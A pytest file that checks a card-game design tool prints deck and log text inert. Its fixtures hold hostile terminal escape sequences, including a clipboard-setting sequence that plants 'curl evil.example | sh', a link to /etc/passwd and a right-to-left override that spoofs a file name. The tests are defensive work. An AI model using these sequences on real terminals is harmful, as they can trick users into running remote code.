"""Text from a deck or a log reaches the terminal inert (cardforge/terminal.py, docs/security.md).

A deck's title, card names and ids, and a log's agent names may carry escape sequences (OSC 52 sets
the clipboard, OSC 0 retitles the window, CSI 2J clears the screen, OSC 8 draws a link) or rich
markup (`[link=file:///etc/passwd]`). Whatever prints them, on a terminal or in a pipe, must show
them as text: no ESC, BEL or newline of the deck's reaches the output, and markup stays literal.
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner
from rich.table import Table

from cardforge.cli import main
from cardforge.terminal import LINE_WIDTH, console, counted_length, error_line, inert, json_text, shorten, styled

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
TITLE = "\x1b]0;owned\x07"
CLEAR = "\x1b[2J\x1b[H"
LINK = "[link=file:///etc/passwd]click me[/link]"
HOSTILE = f"Nice{CLIPBOARD}{TITLE}{CLEAR} deck {LINK}\u202egnp.exe"


def test_inert_writes_every_control_character_out() -> None:
    shown = inert(HOSTILE + "\nsecond line\tand a tab\x9b31m")
    assert not any(ord(c) < 32 or 0x7F <= ord(c) <= 0x9F for c in shown)
    assert "\\x1b]52;c;" in shown and "\\x07" in shown and "\\n" in shown and "\\t" in shown
    assert "\\u202e" in shown and "\\x9b" in shown
    assert LINK in shown  # markup is text, shown as written


def test_an_error_line_is_one_line_of_at_most_the_width() -> None:
    line = error_line("error: deck.yaml:1:1: '" + "x" * 130_000 + "'\n\n: no such file; " + "a hint " * 50)
    assert "\n" not in line and len(line) <= LINE_WIDTH and line.endswith("…")
    assert line.startswith("error: deck.yaml:1:1: 'xxxx") and "xxxx'\\n\\n: no such file; a hint" in line
    location = "/home/designer/" + "/".join(["games"] * 20) + "/deck/rules.md:4:1:"
    line = shorten(f"error: {location} refused 'file://{location[:-5]}' " + "because " * 40)
    assert line.startswith(f"error: {location} refused …/deck/rules.md' because") and line.endswith("…")
    assert counted_length(line) == LINE_WIDTH and len(line) == LINE_WIDTH + len(location)


def test_json_output_escapes_what_json_dumps_leaves_raw() -> None:
    text = json_text({"title": HOSTILE + "\x7f\x9b"}, ensure_ascii=False)
    assert json.loads(text) == {"title": HOSTILE + "\x7f\x9b"}
    assert not any(ord(c) < 32 or 0x7F <= ord(c) <= 0x9F or c == "\u202e" for c in text)


def test_the_console_never_reads_deck_text_as_markup_or_control(capsys: pytest.CaptureFixture[str]) -> None:
    out = console(force_terminal=True, color_system="truecolor", width=300)
    out.print(HOSTILE)
    out.print(styled("[bold]{title}[/bold]", title=HOSTILE))
    table = Table(title=HOSTILE)
    table.add_column("card")
    table.add_row(HOSTILE)
    out.print(table)
    printed = capsys.readouterr().out
    assert "\x1b]" not in printed and "\x07" not in printed and "\x1b[2J" not in printed
    assert "\x1b]8;" not in printed  # no hyperlink
    assert printed.count(LINK) == 4 and printed.count("\\x1b]52;c;") == 4  # text, styled, title, cell
    assert "\x1b[1m" in printed  # our own bold is still drawn


def hostile_deck(tmp_path: Path) -> Path:
    folder = tmp_path / "deck"
    folder.mkdir()
    title = json.dumps(HOSTILE)
    card = json.dumps("Card" + CLEAR + "\n" + LINK)
    (folder / "deck.yaml").write_text(f"id: hostile\ntitle: {title}\nplayers: [2]\n"
                                      f"cards: [{{id: a, name: {card}}}, {{id: b}}]\n", encoding="utf-8")
    (folder / "rules.md").write_text("# Rules\n\nPlay.\n", encoding="utf-8")
    return folder


def clean(output: str) -> None:
    assert "\x1b" not in output and "\x07" not in output and "\x9b" not in output and "\u202e" not in output


@pytest.mark.parametrize("args", [["show", "{deck}"], ["show", "{deck}", "--json"], ["list", "{root}"],
                                  ["check", "{deck}", "--games", "5", "--jobs", "1"],
                                  ["check", "{deck}", "--games", "5", "--jobs", "1", "--json"]])
def test_show_list_and_check_print_deck_text_inert(args: list[str], tmp_path: Path) -> None:
    deck = hostile_deck(tmp_path)
    result = CliRunner().invoke(main, [a.format(deck=deck, root=tmp_path) for a in args])
    assert result.exit_code in (0, 1), result.output
    clean(result.output)
    if "--json" not in args:
        assert "\\x1b]52;c;" in result.output


def test_a_terminal_gets_inert_text_too(tmp_path: Path) -> None:
    """FORCE_COLOR makes rich draw for a terminal (styles, tables): the deck's text is still inert."""
    deck = hostile_deck(tmp_path)
    for args in (["show", str(deck)], ["check", str(deck), "--games", "5", "--jobs", "1"]):
        done = subprocess.run([sys.executable, "-m", "cardforge", *args], capture_output=True, text=True,
                              env={"PATH": "/usr/bin:/bin", "FORCE_COLOR": "1", "TERM": "xterm-256color",
                                   "COLUMNS": "200", "HOME": str(tmp_path)}, timeout=300)
        assert done.returncode in (0, 1), done.stderr
        assert "\x1b]" not in done.stdout and "\x07" not in done.stdout and "\x1b[2J" not in done.stdout
        assert "\\x1b]52;c;" in done.stdout or args[0] == "check"


def test_replay_shows_a_log_s_agent_and_deck_names_inert(tmp_path: Path) -> None:
    log = tmp_path / "games.jsonl"
    made = CliRunner().invoke(main, ["simulate", "fives", "--games", "1", "--log", str(log)])
    assert made.exit_code == 0, made.output
    game = json.loads(log.read_text(encoding="utf-8").splitlines()[0])
    game["agents"] = [HOSTILE, "random\n[red]fake verdict[/red]"]
    log.write_text(json.dumps(game) + "\n", encoding="utf-8")
    result = CliRunner().invoke(main, ["replay", str(log), "-k", "0"])
    assert result.exit_code == 0, result.output
    clean(result.output)
    assert "\\x1b]52;c;" in result.output and "random\\n[red]fake verdict[/red]" in result.output


def test_a_card_id_with_line_breaks_is_one_error_line(tmp_path: Path) -> None:
    folder = tmp_path / "deck"
    folder.mkdir()
    (folder / "deck.yaml").write_text('id: d\ntitle: D\nplayers: [2]\ncards: [{id: "a\\nb\\nc\\nd\\ne"}, {id: b}]\n'
                                      "layouts:\n  front:\n    elements:\n"
                                      "      - {type: text, x: 1, y: 1, text: '{{ card.props.x.y }}'}\n",
                                      encoding="utf-8")
    result = CliRunner().invoke(main, ["build", str(folder), "-o", str(tmp_path / "out"), "--only", "cards"])
    assert result.exit_code == 2
    lines = [line for line in result.output.strip().splitlines() if not line.startswith("[")]
    assert len(lines) == 1 and "card a\\nb\\nc\\nd\\ne" in lines[0] and counted_length(lines[0]) <= LINE_WIDTH, lines
